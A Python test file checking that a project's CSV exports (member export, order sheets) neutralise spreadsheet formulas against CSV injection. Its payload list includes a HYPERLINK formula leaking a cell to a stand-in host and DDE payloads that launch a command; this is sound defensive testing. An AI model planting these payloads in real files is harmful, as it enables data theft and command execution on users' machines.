"""Every CSV the project writes neutralises cells Excel would run as formulas (OWASP "CSV
injection"): `coop export`, the fiscal archive's CSVs, the order sheets' CSV (issue 17 §4)."""

from __future__ import annotations

import csv
import io

import pytest

import invoices
from coop.cli.main import main
from coop.csvio import neutral

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_gets_an_apostrophe(attack):
    assert neutral(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-12,50", "-3", "12.5", 0, -4, None, "Dupont", "a=b"])
def test_numbers_and_plain_text_are_kept(value):
    assert neutral(value) == ("" if value is None else value)


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_coop_export_members_neutralises(database_url, tmp_path):
    source = tmp_path / "membres.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as handle:
        out = csv.writer(handle, delimiter=";")
        out.writerow(["number", "first_name", "last_name"])
        out.writerow([1, "Eve", ATTACKS[0]])
        out.writerow([2, "Mallory", ATTACKS[1]])
    assert main(["--database", database_url, "import", "members", str(source)]) == 0
    target = tmp_path / "export.csv"
    assert main(["--database", database_url, "export", "members", "--out", str(target)]) == 0
    cells = [cell for row in _cells(target.read_bytes()) for cell in row]
    assert "'" + ATTACKS[0] in cells and "'" + ATTACKS[1] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_order_sheet_csv_neutralises(tmp_path):
    path = invoices.write_csv([["Article", "Qté"], [ATTACKS[4], 3], ["-5", -5]], tmp_path / "c.csv")
    assert _cells(path.read_bytes()) == [["Article", "Qté"], ["'" + ATTACKS[4], "3"], ["-5", "-5"]]


def test_a_killed_export_leaves_no_part_file_behind(database_url, tmp_path):
    target = tmp_path / "export.csv"
    stale = tmp_path / ".export.csv.999999999.part"  # an export killed with kill -9
    stale.write_text("half")
    assert main(["--database", database_url, "export", "members", "--out", str(target)]) == 0
    assert target.exists() and not stale.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
